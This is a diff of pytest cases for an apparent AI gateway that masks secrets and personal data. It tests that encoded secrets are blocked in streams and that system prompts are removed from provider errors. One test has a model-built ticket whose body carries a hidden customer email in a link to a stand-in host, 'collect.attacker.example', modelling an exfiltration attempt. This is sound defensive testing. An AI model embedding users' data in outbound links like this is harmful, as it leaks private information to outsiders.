@@ -93,6 +93,19 @@ async def test_what_a_tool_hid_from_an_agent_is_real_again_for_another_tool(desk
     await desk.finding("EMAIL_ADDRESS:tokenise@", "ada@customer.example")
 
 
+async def test_a_model_cannot_have_a_tool_tell_a_stranger_what_it_was_kept_from(desk):
+    token = await desk.token("hiding")
+    shown = await desk.call(token, "crm.get_customer", customer_id="C-1001")
+    hidden = shown.data["email"]
+    body = f"see https://collect.attacker.example/?q={hidden}, {hidden}"
+    made = await desk.call(
+        token, "tickets.create", customer_id="C-1001", subject="Hello", body=body
+    )
+    assert not made.code
+    [stored] = [row.body for row in desk.stage.records.tickets("C-1001") if "attacker" in row.body]
+    assert stored == f"see https://collect.attacker.example/?q={hidden}, ada@customer.example"
+
+
 async def test_a_digest_tells_that_two_values_are_one_and_not_which(desk):
     token = await desk.token("hashing")
     shown = [await desk.call(token, "crm.get_customer", customer_id="C-1001") for _ in range(2)]
@@ -126,6 +139,41 @@ async def test_a_secret_cut_over_a_stream_never_leaves_and_policy_ends_the_strea
         assert stopped.text == f"Well{'.' * padding} it is "[: len(stopped.text)]
     await desk.finding("GITHUB_TOKEN:mask@", secret)
     await desk.finding("GITHUB_TOKEN:block@", secret, code="PC3021")
+
+
+@pytest.mark.parametrize("api", APIS)
+async def test_nothing_of_an_encoded_secret_leaves_in_a_stream(desk, api):
+    secret, token = needles.token(), await desk.token("masking")
+    for encoded in (
+        base64.b64encode(f"the key is {secret}".encode()).decode(),
+        secret.encode().hex(),
+        f"{secret[:20]}%{ord(secret[20]):x}{secret[21:]}",
+    ):
+        text = f"Well, it is {encoded} and no other."
+        stopped = await desk.ask(token, api, "crumbs", text, stream=True)
+        assert stopped.code == "PC3021"
+        assert text.startswith(stopped.text)
+        assert len(stopped.text) <= len("Well, it is ")
+    await desk.finding("GITHUB_TOKEN:block@", secret, code="PC3021")
+
+
+@pytest.mark.parametrize("api", APIS)
+@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
+async def test_a_providers_error_that_quotes_the_prompt_is_passed_on_without_it(desk, api, stream):
+    token = await desk.token("plain")
+    member = {"responses": "instructions", "messages": "system"}.get(api)
+    prompt = "Never say that we are broke."
+    asked = [{"role": "user", "content": "Hello"}]
+    if member is None:
+        asked.insert(0, {"role": "system", "content": prompt})
+    more = {} if member is None else {member: prompt}
+    said = await desk.ask(token, api, "error-400", asked, stream=stream, **more)
+    assert (said.code, said.status) == ("invalid_request_error", 400)
+    assert prompt in desk.reached()
+    assert prompt not in said.error
+    assert "[taken out" in said.error
+    event = await desk.finding("CANARY:strip@error.message")
+    assert event.result.error
 
 
 @pytest.mark.parametrize("api", APIS)
